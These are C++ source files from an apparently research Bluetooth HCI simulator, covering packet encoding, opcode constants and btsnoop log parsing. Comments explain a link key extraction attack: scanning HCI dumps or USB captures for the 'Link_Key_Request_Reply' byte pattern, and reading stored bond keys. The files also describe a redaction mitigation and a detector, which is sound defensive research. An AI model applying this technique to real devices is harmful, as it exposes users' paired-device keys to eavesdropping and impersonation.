  auto addr = BdAddr::from_wire(r);
  auto key_wire = r.array<16>();
  auto type = r.u8();
  if (!addr || !key_wire || !type) return std::nullopt;
  LinkKeyNotificationEvt evt;
  evt.bdaddr = *addr;
  for (std::size_t i = 0; i < 16; ++i) evt.link_key[i] = (*key_wire)[15 - i];
  evt.key_type = static_cast<crypto::LinkKeyType>(*type);
  return evt;
}

HciPacket PinCodeRequestEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_event(ev::kPinCodeRequest, w.data());
}

std::optional<PinCodeRequestEvt> PinCodeRequestEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return PinCodeRequestEvt{*addr};
}

HciPacket IoCapabilityRequestEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  return make_event(ev::kIoCapabilityRequest, w.data());
}

std::optional<IoCapabilityRequestEvt> IoCapabilityRequestEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  if (!addr) return std::nullopt;
  return IoCapabilityRequestEvt{*addr};
}

HciPacket IoCapabilityResponseEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u8(static_cast<std::uint8_t>(io_capability)).u8(oob_data_present).u8(
      authentication_requirements);
  return make_event(ev::kIoCapabilityResponse, w.data());
}

std::optional<IoCapabilityResponseEvt> IoCapabilityResponseEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto io = r.u8();
  auto oob = r.u8();
  auto auth = r.u8();
  if (!addr || !io || !oob || !auth || *io > 0x03) return std::nullopt;
  return IoCapabilityResponseEvt{*addr, static_cast<IoCapability>(*io), *oob, *auth};
}

HciPacket UserConfirmationRequestEvt::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u32(numeric_value);
  return make_event(ev::kUserConfirmationRequest, w.data());
}

std::optional<UserConfirmationRequestEvt> UserConfirmationRequestEvt::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto value = r.u32();
  if (!addr || !value) return std::nullopt;
  return UserConfirmationRequestEvt{*addr, *value};
}

HciPacket SimplePairingCompleteEvt::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(status));
  bdaddr.to_wire(w);
  return make_event(ev::kSimplePairingComplete, w.data());
}

std::optional<SimplePairingCompleteEvt> SimplePairingCompleteEvt::decode(BytesView params) {
  ByteReader r(params);
  auto status = r.u8();
  auto addr = BdAddr::from_wire(r);
  if (!status || !addr) return std::nullopt;
  return SimplePairingCompleteEvt{static_cast<Status>(*status), *addr};
}

}  // namespace blap::hci
