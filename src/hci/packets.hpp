// packets.hpp — the generic HCI packet model.
//
// An HciPacket is what crosses the host–controller interface: a packet type
// (H4 indicator byte) plus the type-specific payload. Commands and events
// carry a small header inside the payload; ACL data carries a connection
// handle. The same bytes appear in three places in BLAP:
//   * on the transport between host and controller,
//   * in btsnoop records written by the HCI dump, and
//   * inside USB frames captured by the sniffer.
#pragma once

#include <optional>
#include <string>

#include "common/bytes.hpp"
#include "hci/constants.hpp"

namespace blap::hci {

struct HciPacket {
  PacketType type = PacketType::kCommand;
  Bytes payload;  // excludes the H4 type indicator byte

  /// H4 wire form: type byte followed by payload. This is the byte string
  /// the paper's RADIX view shows, e.g. "01 0b 04 16 ..." for a
  /// Link_Key_Request_Reply command.
  [[nodiscard]] Bytes to_wire() const;

  /// Parse an H4-framed packet (type byte + payload).
  [[nodiscard]] static std::optional<HciPacket> from_wire(BytesView wire);

  /// For a command packet: the 16-bit opcode (nullopt for other types or
  /// truncated payloads).
  [[nodiscard]] std::optional<std::uint16_t> command_opcode() const;

  /// For a command packet: the parameter bytes after the 3-byte header.
  [[nodiscard]] std::optional<BytesView> command_params() const;

  /// For an event packet: the event code.
  [[nodiscard]] std::optional<std::uint8_t> event_code() const;

  /// For an event packet: the parameter bytes after the 2-byte header.
  [[nodiscard]] std::optional<BytesView> event_params() const;

  /// For an ACL data packet: the connection handle (low 12 bits).
  [[nodiscard]] std::optional<ConnectionHandle> acl_handle() const;

  /// For an ACL data packet: the Packet_Boundary flag (header bits 12–13 —
  /// 0 first non-flushable, 1 continuation fragment, 2 first flushable,
  /// 3 complete PDU). acl_handle() masks these off; fragment-aware readers
  /// need them intact.
  [[nodiscard]] std::optional<std::uint8_t> acl_pb_flag() const;

  /// For an ACL data packet: the Broadcast flag (header bits 14–15).
  [[nodiscard]] std::optional<std::uint8_t> acl_bc_flag() const;

  /// For an ACL data packet: the data after the 4-byte header.
  [[nodiscard]] std::optional<BytesView> acl_data() const;

  /// Human-readable one-line summary ("Command HCI_Create_Connection (7 bytes)").
  [[nodiscard]] std::string describe() const;

  friend bool operator==(const HciPacket&, const HciPacket&) = default;
};

/// Build a command packet: opcode + parameter length + parameters.
[[nodiscard]] HciPacket make_command(std::uint16_t op, BytesView params);

/// Build an event packet: event code + parameter length + parameters.
[[nodiscard]] HciPacket make_event(std::uint8_t code, BytesView params);

/// Build an ACL data packet: handle (PB/BC flags zero) + length + data.
[[nodiscard]] HciPacket make_acl(ConnectionHandle handle, BytesView data);

/// Build an ACL data packet with explicit Packet_Boundary and Broadcast
/// flags (each masked to 2 bits) — continuation fragments carry pb = 1.
/// Exact inverse of acl_handle()/acl_pb_flag()/acl_bc_flag()/acl_data().
[[nodiscard]] HciPacket make_acl_fragment(ConnectionHandle handle, std::uint8_t pb_flag,
                                          std::uint8_t bc_flag, BytesView data);

}  // namespace blap::hci
