// constants.hpp — HCI opcodes, event codes and error codes used by BLAP.
//
// These numeric values follow the Bluetooth Core Specification (Vol 4,
// Part E). Getting them byte-exact matters: the paper's USB-sniff extraction
// searches captured traffic for the literal pattern "0b 04 16" — the
// little-endian opcode of HCI_Link_Key_Request_Reply (0x040B) followed by its
// parameter length (22 = 6-byte BD_ADDR + 16-byte link key).
#pragma once

#include <cstdint>

namespace blap::hci {

/// UART/USB packet indicator (H4 framing byte).
enum class PacketType : std::uint8_t {
  kCommand = 0x01,
  kAclData = 0x02,
  kScoData = 0x03,
  kEvent = 0x04,
};

[[nodiscard]] constexpr const char* to_string(PacketType t) {
  switch (t) {
    case PacketType::kCommand: return "Command";
    case PacketType::kAclData: return "ACL Data";
    case PacketType::kScoData: return "SCO Data";
    case PacketType::kEvent: return "Event";
  }
  return "?";
}

/// Transfer direction across the HCI.
enum class Direction : std::uint8_t {
  kHostToController = 0,  // commands, outgoing data
  kControllerToHost = 1,  // events, incoming data
};

/// Opcode = (OGF << 10) | OCF.
[[nodiscard]] constexpr std::uint16_t opcode(std::uint16_t ogf, std::uint16_t ocf) {
  return static_cast<std::uint16_t>((ogf << 10) | ocf);
}

namespace op {
// OGF 0x01 — Link Control commands.
inline constexpr std::uint16_t kInquiry = opcode(0x01, 0x0001);
inline constexpr std::uint16_t kInquiryCancel = opcode(0x01, 0x0002);
inline constexpr std::uint16_t kCreateConnection = opcode(0x01, 0x0005);
inline constexpr std::uint16_t kDisconnect = opcode(0x01, 0x0006);
inline constexpr std::uint16_t kAcceptConnectionRequest = opcode(0x01, 0x0009);
inline constexpr std::uint16_t kRejectConnectionRequest = opcode(0x01, 0x000A);
inline constexpr std::uint16_t kLinkKeyRequestReply = opcode(0x01, 0x000B);  // wire: 0b 04
inline constexpr std::uint16_t kLinkKeyRequestNegativeReply = opcode(0x01, 0x000C);
inline constexpr std::uint16_t kPinCodeRequestReply = opcode(0x01, 0x000D);
inline constexpr std::uint16_t kPinCodeRequestNegativeReply = opcode(0x01, 0x000E);
inline constexpr std::uint16_t kAuthenticationRequested = opcode(0x01, 0x0011);
inline constexpr std::uint16_t kSetConnectionEncryption = opcode(0x01, 0x0013);
inline constexpr std::uint16_t kRemoteNameRequest = opcode(0x01, 0x0019);
inline constexpr std::uint16_t kIoCapabilityRequestReply = opcode(0x01, 0x002B);
inline constexpr std::uint16_t kUserConfirmationRequestReply = opcode(0x01, 0x002C);
inline constexpr std::uint16_t kUserConfirmationRequestNegativeReply = opcode(0x01, 0x002D);

// OGF 0x03 — Controller & Baseband commands.
inline constexpr std::uint16_t kReset = opcode(0x03, 0x0003);
/// Dumps every stored bond key over the HCI in Return_Link_Keys events —
/// the other §IV-A exposure path the fleet analytics detector watches for.
inline constexpr std::uint16_t kReadStoredLinkKey = opcode(0x03, 0x000D);
inline constexpr std::uint16_t kWriteLocalName = opcode(0x03, 0x0013);
inline constexpr std::uint16_t kWriteScanEnable = opcode(0x03, 0x001A);
inline constexpr std::uint16_t kWriteClassOfDevice = opcode(0x03, 0x0024);
inline constexpr std::uint16_t kWriteSimplePairingMode = opcode(0x03, 0x0056);

// OGF 0x04 — Informational parameters.
inline constexpr std::uint16_t kReadBdAddr = opcode(0x04, 0x0009);
}  // namespace op

[[nodiscard]] const char* opcode_name(std::uint16_t op);

namespace ev {
inline constexpr std::uint8_t kInquiryComplete = 0x01;
inline constexpr std::uint8_t kInquiryResult = 0x02;
inline constexpr std::uint8_t kConnectionComplete = 0x03;
inline constexpr std::uint8_t kConnectionRequest = 0x04;
inline constexpr std::uint8_t kDisconnectionComplete = 0x05;
inline constexpr std::uint8_t kAuthenticationComplete = 0x06;
inline constexpr std::uint8_t kRemoteNameRequestComplete = 0x07;
inline constexpr std::uint8_t kEncryptionChange = 0x08;
inline constexpr std::uint8_t kCommandComplete = 0x0E;
inline constexpr std::uint8_t kCommandStatus = 0x0F;
/// Carries stored bond keys in plaintext (response to Read_Stored_Link_Key):
/// Num_Keys, then Num_Keys × (BD_ADDR, 16-byte link key).
inline constexpr std::uint8_t kReturnLinkKeys = 0x15;
inline constexpr std::uint8_t kPinCodeRequest = 0x16;
inline constexpr std::uint8_t kLinkKeyRequest = 0x17;
inline constexpr std::uint8_t kLinkKeyNotification = 0x18;
inline constexpr std::uint8_t kIoCapabilityRequest = 0x31;
inline constexpr std::uint8_t kIoCapabilityResponse = 0x32;
inline constexpr std::uint8_t kUserConfirmationRequest = 0x33;
inline constexpr std::uint8_t kSimplePairingComplete = 0x36;
inline constexpr std::uint8_t kExtendedInquiryResult = 0x2F;
}  // namespace ev

[[nodiscard]] const char* event_name(std::uint8_t code);

/// HCI error codes (Vol 1, Part F).
enum class Status : std::uint8_t {
  kSuccess = 0x00,
  kUnknownConnectionIdentifier = 0x02,
  kPageTimeout = 0x04,
  kAuthenticationFailure = 0x05,
  kPinOrKeyMissing = 0x06,
  kConnectionTimeout = 0x08,
  kConnectionAlreadyExists = 0x0B,
  kConnectionAcceptTimeout = 0x10,
  kRemoteUserTerminatedConnection = 0x13,
  kConnectionTerminatedByLocalHost = 0x16,
  kPairingNotAllowed = 0x18,
  kLmpResponseTimeout = 0x22,
};

[[nodiscard]] const char* to_string(Status status);

/// ACL connection handle (12 significant bits).
using ConnectionHandle = std::uint16_t;
inline constexpr ConnectionHandle kInvalidHandle = 0x0FFF;

/// IO capability codes used in the IO Capability exchange (Vol 2, Part E).
enum class IoCapability : std::uint8_t {
  kDisplayOnly = 0x00,
  kDisplayYesNo = 0x01,
  kKeyboardOnly = 0x02,
  kNoInputNoOutput = 0x03,
};

[[nodiscard]] const char* to_string(IoCapability capability);

/// Scan enable values for Write_Scan_Enable.
enum class ScanEnable : std::uint8_t {
  kNone = 0x00,
  kInquiryOnly = 0x01,
  kPageOnly = 0x02,
  kInquiryAndPage = 0x03,
};

}  // namespace blap::hci
