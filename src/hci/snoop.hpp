// snoop.hpp — the btsnoop HCI dump format (RFC 1761 "snoop", datalink 1002).
//
// The "HCI dump" the paper exploits is a file in this exact format: Android's
// 'Bluetooth HCI snoop log' and BlueZ's hcidump both emit it. BLAP both
// writes it (the host's dump tap) and parses it (the attacker's analyzer), so
// the link key extraction attack operates on the same on-disk artifact a real
// attacker would pull out of an Android bug report.
//
// Layout (all header/record integers big-endian):
//   file header : 8-byte id "btsnoop\0" | u32 version=1 | u32 datalink=1002
//   each record : u32 orig_len | u32 incl_len | u32 flags | u32 drops |
//                 u64 timestamp (us since 0 AD) | packet bytes (H4 framed)
//   flags       : bit0 = direction (0 sent/host→controller, 1 received)
//                 bit1 = 1 for command/event channel
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "common/scheduler.hpp"
#include "common/state_io.hpp"
#include "hci/packets.hpp"

namespace blap::hci {

/// Offset between the btsnoop epoch (0 AD) and the Unix epoch, microseconds.
inline constexpr std::uint64_t kSnoopEpochOffsetUs = 0x00DCDDB30F2F8000ULL;

/// Datalink type for H4-framed HCI (type byte included in packet data).
inline constexpr std::uint32_t kDatalinkHciUart = 1002;

struct SnoopRecord {
  SimTime timestamp_us = 0;  // simulation time; serialized with epoch offset
  Direction direction = Direction::kHostToController;
  HciPacket packet;
  /// True when the dump truncated the payload (mitigation §VII-A logs only
  /// the header of key-bearing packets); orig_len then exceeds incl_len.
  std::uint32_t original_length = 0;  // 0 = same as packet size

  [[nodiscard]] std::uint32_t flags() const {
    std::uint32_t f = (direction == Direction::kControllerToHost) ? 1u : 0u;
    if (packet.type == PacketType::kCommand || packet.type == PacketType::kEvent) f |= 2u;
    return f;
  }
};

/// An in-memory HCI dump: the log a device's snoop tap accumulates.
class SnoopLog {
 public:
  /// A record filter installed before logging. Returning std::nullopt drops
  /// the record entirely; returning a modified record logs the modification.
  /// This is the hook the §VII-A mitigation uses to redact link keys.
  using Filter = std::function<std::optional<SnoopRecord>(SnoopRecord)>;

  SnoopLog() = default;

  void set_filter(Filter filter) { filter_ = std::move(filter); }

  /// Append a record (through the filter, if any).
  void append(SnoopRecord record);

  [[nodiscard]] const std::vector<SnoopRecord>& records() const { return records_; }
  [[nodiscard]] std::size_t size() const { return records_.size(); }
  void clear() { records_.clear(); }

  /// Serialize to the btsnoop on-disk format.
  [[nodiscard]] Bytes serialize() const;

  /// Parse a btsnoop byte stream. Tolerates a truncated final record (as a
  /// dump cut off mid-write would be) by dropping it. Returns nullopt only
  /// for a bad header.
  [[nodiscard]] static std::optional<SnoopLog> parse(BytesView data);

  /// Write/read convenience over files.
  [[nodiscard]] bool save(const std::string& path) const;
  [[nodiscard]] static std::optional<SnoopLog> load(const std::string& path);

  /// Render as the frame table of the paper's Fig. 12 (Fra/Type/Opcode/
  /// Command/Event/Status columns).
  [[nodiscard]] std::string format_table() const;

  /// Snapshot support. Records round-trip field by field — serialize()/
  /// parse() would lose original_length==0 distinctions — and load_state
  /// bypasses the filter (the records were already filtered when first
  /// appended). A kRewind restore also clears a filter installed after a
  /// filter-free capture; a capture-time filter cannot be reconstructed and
  /// is left in place.
  void save_state(state::StateWriter& w) const;
  void load_state(state::StateReader& r, state::RestoreMode mode);

 private:
  std::vector<SnoopRecord> records_;
  Filter filter_;
};

}  // namespace blap::hci
