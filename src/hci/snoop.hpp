// snoop.hpp — the btsnoop HCI dump format (RFC 1761 "snoop", datalink 1002).
//
// The "HCI dump" the paper exploits is a file in this exact format: Android's
// 'Bluetooth HCI snoop log' and BlueZ's hcidump both emit it. BLAP both
// writes it (the host's dump tap) and parses it (the attacker's analyzer), so
// the link key extraction attack operates on the same on-disk artifact a real
// attacker would pull out of an Android bug report.
//
// Layout (all header/record integers big-endian):
//   file header : 8-byte id "btsnoop\0" | u32 version=1 | u32 datalink=1002
//   each record : u32 orig_len | u32 incl_len | u32 flags | u32 drops |
//                 u64 timestamp (us since 0 AD) | packet bytes (H4 framed)
//   flags       : bit0 = direction (0 sent/host→controller, 1 received)
//                 bit1 = 1 for command/event channel
#pragma once

#include <functional>
#include <optional>
#include <string>
#include <vector>

#include "common/scheduler.hpp"
#include "common/state_io.hpp"
#include "hci/packets.hpp"

namespace blap::hci {

/// Offset between the btsnoop epoch (0 AD) and the Unix epoch, microseconds.
inline constexpr std::uint64_t kSnoopEpochOffsetUs = 0x00DCDDB30F2F8000ULL;

/// Datalink type for H4-framed HCI (type byte included in packet data).
inline constexpr std::uint32_t kDatalinkHciUart = 1002;

/// Hard ceiling on a single record's included length. The largest legal H4
/// frame (ACL header + 64 KiB payload) is far below this; anything bigger is
/// a corrupt length field, and honoring it would make a hostile capture file
/// drive gigabyte allocations in the fleet reader.
inline constexpr std::uint32_t kMaxSnoopRecordBytes = 1u << 20;

/// Why a snoop parse stopped early. The fleet analytics engine meets corrupt
/// captures at scale, so every malformed shape maps to a typed error with
/// the byte offset where the stream went wrong — never a throw, never an
/// over-read.
enum class SnoopError : std::uint8_t {
  kNone = 0,
  kTruncatedFileHeader,  // fewer than the 16 file-header bytes
  kBadMagic,             // id != "btsnoop\0"
  kBadVersion,           // version != 1
  kBadDatalink,          // datalink != 1002 (H4 with type byte)
  kLengthMismatch,       // incl_len > orig_len — no writer produces this
  kOversizedRecord,      // incl_len > kMaxSnoopRecordBytes
  kTruncatedRecord,      // stream ends inside a record header or payload
};

[[nodiscard]] const char* to_string(SnoopError error);

/// A parse diagnosis: what went wrong and where. `byte_offset` points at the
/// start of the offending field (header faults) or the offending record
/// (record faults), so a corrupt capture can be located with one hexdump.
struct SnoopFault {
  SnoopError error = SnoopError::kNone;
  std::size_t byte_offset = 0;

  [[nodiscard]] bool ok() const { return error == SnoopError::kNone; }
  /// "truncated record at byte 1234" — the stable report form.
  [[nodiscard]] std::string describe() const;
};

/// One record of a btsnoop stream, viewed in place. `wire` aliases the
/// parsed buffer — zero copies, valid only while that buffer lives.
struct SnoopRecordView {
  std::size_t index = 0;        // 0-based record position in the stream
  std::size_t byte_offset = 0;  // offset of the record header in the stream
  SimTime timestamp_us = 0;     // epoch offset already removed
  std::uint32_t orig_len = 0;
  std::uint32_t flags = 0;
  Direction direction = Direction::kHostToController;
  BytesView wire;  // H4-framed bytes: type indicator + payload

  /// True when the dump truncated this record (§VII-A header-only filter).
  [[nodiscard]] bool payload_truncated() const { return orig_len > wire.size(); }
};

/// Streaming zero-copy iteration over a btsnoop byte stream. This is the
/// single record-walk loop in the tree: SnoopLog::parse, the snoop_inspector
/// CLI and the fleet analytics engine all drive it. Unlike SnoopLog::parse
/// it allocates nothing per record, so a mmap'd capture file is scanned at
/// memory bandwidth.
class SnoopCursor {
 public:
  /// Validate the 16-byte file header. On failure returns nullopt and, when
  /// `fault` is non-null, reports which header field was bad.
  [[nodiscard]] static std::optional<SnoopCursor> open(BytesView data,
                                                      SnoopFault* fault = nullptr);

  /// The next record, or nullopt at end-of-stream *and* on a malformed
  /// record. Distinguish via fault(): ok() means the stream ended cleanly.
  [[nodiscard]] std::optional<SnoopRecordView> next();

  /// The first malformed shape met, if any. kTruncatedRecord is the one a
  /// dump cut off mid-write leaves behind; tolerant callers drop the tail.
  [[nodiscard]] const SnoopFault& fault() const { return fault_; }
  [[nodiscard]] std::size_t records_read() const { return index_; }
  /// Current read position (bytes consumed so far).
  [[nodiscard]] std::size_t offset() const { return pos_; }

 private:
  explicit SnoopCursor(BytesView data) : data_(data) {}

  BytesView data_;
  std::size_t pos_ = 16;  // past the validated file header
  std::size_t index_ = 0;
  SnoopFault fault_;
};

struct SnoopRecord {
  SimTime timestamp_us = 0;  // simulation time; serialized with epoch offset
  Direction direction = Direction::kHostToController;
  HciPacket packet;
  /// True when the dump truncated the payload (mitigation §VII-A logs only
  /// the header of key-bearing packets); orig_len then exceeds incl_len.
  std::uint32_t original_length = 0;  // 0 = same as packet size

  [[nodiscard]] std::uint32_t flags() const {
    std::uint32_t f = (direction == Direction::kControllerToHost) ? 1u : 0u;
    if (packet.type == PacketType::kCommand || packet.type == PacketType::kEvent) f |= 2u;
    return f;
  }
};

/// An in-memory HCI dump: the log a device's snoop tap accumulates.
class SnoopLog {
 public:
  /// A record filter installed before logging. Returning std::nullopt drops
  /// the record entirely; returning a modified record logs the modification.
  /// This is the hook the §VII-A mitigation uses to redact link keys.
  using Filter = std::function<std::optional<SnoopRecord>(SnoopRecord)>;

  SnoopLog() = default;

  void set_filter(Filter filter) { filter_ = std::move(filter); }

  /// Append a record (through the filter, if any).
  void append(SnoopRecord record);

  [[nodiscard]] const std::vector<SnoopRecord>& records() const { return records_; }
  [[nodiscard]] std::size_t size() const { return records_.size(); }
  void clear() { records_.clear(); }

  /// Serialize to the btsnoop on-disk format.
  [[nodiscard]] Bytes serialize() const;

  /// Checked parse of a btsnoop byte stream. `log` is engaged unless the
  /// 16-byte file header itself was bad; `fault` names the first malformed
  /// shape met (kNone for a fully clean stream) and the records parsed up to
  /// that point are kept. Records whose H4 type byte is unknown are skipped,
  /// not faulted — real captures contain vendor packet types.
  /// (Defined after the class: it holds an optional of the still-incomplete
  /// SnoopLog.)
  struct ParseResult;
  [[nodiscard]] static ParseResult parse_checked(BytesView data);

  /// Tolerant parse: drops a truncated final record (as a dump cut off
  /// mid-write would be) and the malformed tail of a corrupt capture.
  /// Returns nullopt only for a bad file header (magic, version, datalink).
  [[nodiscard]] static std::optional<SnoopLog> parse(BytesView data);

  /// Write/read convenience over files.
  [[nodiscard]] bool save(const std::string& path) const;
  [[nodiscard]] static std::optional<SnoopLog> load(const std::string& path);

  /// Render as the frame table of the paper's Fig. 12 (Fra/Type/Opcode/
  /// Command/Event/Status columns).
  [[nodiscard]] std::string format_table() const;

  /// Snapshot support. Records round-trip field by field — serialize()/
  /// parse() would lose original_length==0 distinctions — and load_state
  /// bypasses the filter (the records were already filtered when first
  /// appended). A kRewind restore also clears a filter installed after a
  /// filter-free capture; a capture-time filter cannot be reconstructed and
  /// is left in place.
  void save_state(state::StateWriter& w) const;
  void load_state(state::StateReader& r, state::RestoreMode mode);

 private:
  std::vector<SnoopRecord> records_;
  Filter filter_;
};

struct SnoopLog::ParseResult {
  std::optional<SnoopLog> log;
  SnoopFault fault;
  /// True when the fault is the mid-write-truncation shape (stream ended
  /// inside the final record), which tolerant callers silently drop.
  [[nodiscard]] bool truncated_tail() const {
    return fault.error == SnoopError::kTruncatedRecord;
  }
};

}  // namespace blap::hci
