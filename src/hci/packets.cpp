#include "hci/packets.hpp"

#include "common/log.hpp"

namespace blap::hci {

Bytes HciPacket::to_wire() const {
  Bytes out;
  out.reserve(payload.size() + 1);
  out.push_back(static_cast<std::uint8_t>(type));
  out.insert(out.end(), payload.begin(), payload.end());
  return out;
}

std::optional<HciPacket> HciPacket::from_wire(BytesView wire) {
  if (wire.empty()) return std::nullopt;
  const std::uint8_t type_byte = wire[0];
  if (type_byte < 0x01 || type_byte > 0x04) return std::nullopt;
  HciPacket packet;
  packet.type = static_cast<PacketType>(type_byte);
  packet.payload.assign(wire.begin() + 1, wire.end());
  return packet;
}

std::optional<std::uint16_t> HciPacket::command_opcode() const {
  if (type != PacketType::kCommand || payload.size() < 3) return std::nullopt;
  return static_cast<std::uint16_t>(payload[0] | (payload[1] << 8));
}

std::optional<BytesView> HciPacket::command_params() const {
  if (type != PacketType::kCommand || payload.size() < 3) return std::nullopt;
  const std::size_t len = payload[2];
  if (payload.size() < 3 + len) return std::nullopt;
  return BytesView(payload).subspan(3, len);
}

std::optional<std::uint8_t> HciPacket::event_code() const {
  if (type != PacketType::kEvent || payload.size() < 2) return std::nullopt;
  return payload[0];
}

std::optional<BytesView> HciPacket::event_params() const {
  if (type != PacketType::kEvent || payload.size() < 2) return std::nullopt;
  const std::size_t len = payload[1];
  if (payload.size() < 2 + len) return std::nullopt;
  return BytesView(payload).subspan(2, len);
}

std::optional<ConnectionHandle> HciPacket::acl_handle() const {
  if (type != PacketType::kAclData || payload.size() < 4) return std::nullopt;
  return static_cast<ConnectionHandle>((payload[0] | (payload[1] << 8)) & 0x0FFF);
}

std::optional<std::uint8_t> HciPacket::acl_pb_flag() const {
  if (type != PacketType::kAclData || payload.size() < 4) return std::nullopt;
  return static_cast<std::uint8_t>((payload[1] >> 4) & 0x03);
}

std::optional<std::uint8_t> HciPacket::acl_bc_flag() const {
  if (type != PacketType::kAclData || payload.size() < 4) return std::nullopt;
  return static_cast<std::uint8_t>((payload[1] >> 6) & 0x03);
}

std::optional<BytesView> HciPacket::acl_data() const {
  if (type != PacketType::kAclData || payload.size() < 4) return std::nullopt;
  const std::size_t len = static_cast<std::size_t>(payload[2] | (payload[3] << 8));
  if (payload.size() < 4 + len) return std::nullopt;
  return BytesView(payload).subspan(4, len);
}

std::string HciPacket::describe() const {
  switch (type) {
    case PacketType::kCommand:
      if (auto op = command_opcode())
        return strfmt("Command %s (%zu bytes)", opcode_name(*op), payload.size());
      return "Command <truncated>";
    case PacketType::kEvent:
      if (auto code = event_code())
        return strfmt("Event %s (%zu bytes)", event_name(*code), payload.size());
      return "Event <truncated>";
    case PacketType::kAclData:
      if (auto handle = acl_handle())
        return strfmt("ACL handle=0x%04x (%zu bytes)", *handle, payload.size());
      return "ACL <truncated>";
    case PacketType::kScoData:
      return strfmt("SCO (%zu bytes)", payload.size());
  }
  return "?";
}

HciPacket make_command(std::uint16_t op, BytesView params) {
  ByteWriter w;
  w.u16(op).u8(static_cast<std::uint8_t>(params.size())).raw(params);
  return HciPacket{PacketType::kCommand, std::move(w).take()};
}

HciPacket make_event(std::uint8_t code, BytesView params) {
  ByteWriter w;
  w.u8(code).u8(static_cast<std::uint8_t>(params.size())).raw(params);
  return HciPacket{PacketType::kEvent, std::move(w).take()};
}

HciPacket make_acl(ConnectionHandle handle, BytesView data) {
  return make_acl_fragment(handle, 0, 0, data);
}

HciPacket make_acl_fragment(ConnectionHandle handle, std::uint8_t pb_flag,
                            std::uint8_t bc_flag, BytesView data) {
  ByteWriter w;
  w.u16(static_cast<std::uint16_t>((handle & 0x0FFF) | ((pb_flag & 0x03) << 12) |
                                   ((bc_flag & 0x03) << 14)));
  w.u16(static_cast<std::uint16_t>(data.size()));
  w.raw(data);
  return HciPacket{PacketType::kAclData, std::move(w).take()};
}

}  // namespace blap::hci
