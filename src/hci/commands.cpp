#include "hci/commands.hpp"

namespace blap::hci {

const char* opcode_name(std::uint16_t op_value) {
  switch (op_value) {
    case op::kInquiry: return "HCI_Inquiry";
    case op::kInquiryCancel: return "HCI_Inquiry_Cancel";
    case op::kCreateConnection: return "HCI_Create_Connection";
    case op::kDisconnect: return "HCI_Disconnect";
    case op::kAcceptConnectionRequest: return "HCI_Accept_Connection_Request";
    case op::kRejectConnectionRequest: return "HCI_Reject_Connection_Request";
    case op::kLinkKeyRequestReply: return "HCI_Link_Key_Request_Reply";
    case op::kLinkKeyRequestNegativeReply: return "HCI_Link_Key_Request_Negative_Reply";
    case op::kPinCodeRequestReply: return "HCI_PIN_Code_Request_Reply";
    case op::kPinCodeRequestNegativeReply: return "HCI_PIN_Code_Request_Negative_Reply";
    case op::kAuthenticationRequested: return "HCI_Authentication_Requested";
    case op::kSetConnectionEncryption: return "HCI_Set_Connection_Encryption";
    case op::kRemoteNameRequest: return "HCI_Remote_Name_Request";
    case op::kIoCapabilityRequestReply: return "HCI_IO_Capability_Request_Reply";
    case op::kUserConfirmationRequestReply: return "HCI_User_Confirmation_Request_Reply";
    case op::kUserConfirmationRequestNegativeReply:
      return "HCI_User_Confirmation_Request_Negative_Reply";
    case op::kReset: return "HCI_Reset";
    case op::kReadStoredLinkKey: return "HCI_Read_Stored_Link_Key";
    case op::kWriteLocalName: return "HCI_Write_Local_Name";
    case op::kWriteScanEnable: return "HCI_Write_Scan_Enable";
    case op::kWriteClassOfDevice: return "HCI_Write_Class_of_Device";
    case op::kWriteSimplePairingMode: return "HCI_Write_Simple_Pairing_Mode";
    case op::kReadBdAddr: return "HCI_Read_BD_ADDR";
    default: return "HCI_Unknown_Command";
  }
}

HciPacket InquiryCmd::encode() const {
  ByteWriter w;
  w.u8(static_cast<std::uint8_t>(lap));
  w.u8(static_cast<std::uint8_t>(lap >> 8));
  w.u8(static_cast<std::uint8_t>(lap >> 16));
  w.u8(inquiry_length);
  w.u8(num_responses);
  return make_command(op::kInquiry, w.data());
}

std::optional<InquiryCmd> InquiryCmd::decode(BytesView params) {
  ByteReader r(params);
  auto b0 = r.u8(), b1 = r.u8(), b2 = r.u8(), len = r.u8(), num = r.u8();
  if (!b0 || !b1 || !b2 || !len || !num) return std::nullopt;
  InquiryCmd cmd;
  cmd.lap = static_cast<std::uint32_t>(*b0) | (static_cast<std::uint32_t>(*b1) << 8) |
            (static_cast<std::uint32_t>(*b2) << 16);
  cmd.inquiry_length = *len;
  cmd.num_responses = *num;
  return cmd;
}

HciPacket CreateConnectionCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u16(packet_type).u8(page_scan_repetition_mode).u8(reserved).u16(clock_offset).u8(
      allow_role_switch);
  return make_command(op::kCreateConnection, w.data());
}

std::optional<CreateConnectionCmd> CreateConnectionCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto pkt = r.u16();
  auto psrm = r.u8();
  auto rsv = r.u8();
  auto clk = r.u16();
  auto role = r.u8();
  if (!addr || !pkt || !psrm || !rsv || !clk || !role) return std::nullopt;
  return CreateConnectionCmd{*addr, *pkt, *psrm, *rsv, *clk, *role};
}

HciPacket DisconnectCmd::encode() const {
  ByteWriter w;
  w.u16(handle).u8(static_cast<std::uint8_t>(reason));
  return make_command(op::kDisconnect, w.data());
}

std::optional<DisconnectCmd> DisconnectCmd::decode(BytesView params) {
  ByteReader r(params);
  auto h = r.u16();
  auto reason = r.u8();
  if (!h || !reason) return std::nullopt;
  return DisconnectCmd{*h, static_cast<Status>(*reason)};
}

HciPacket AcceptConnectionRequestCmd::encode() const {
  ByteWriter w;
  bdaddr.to_wire(w);
  w.u8(role);
  return make_command(op::kAcceptConnectionRequest, w.data());
}

std::optional<AcceptConnectionRequestCmd> AcceptConnectionRequestCmd::decode(BytesView params) {
  ByteReader r(params);
  auto addr = BdAddr::from_wire(r);
  auto role = r.u8();
  if (!addr || !role) return std::nullopt;
  return AcceptConnectionRequestCmd{*addr, *role};
}

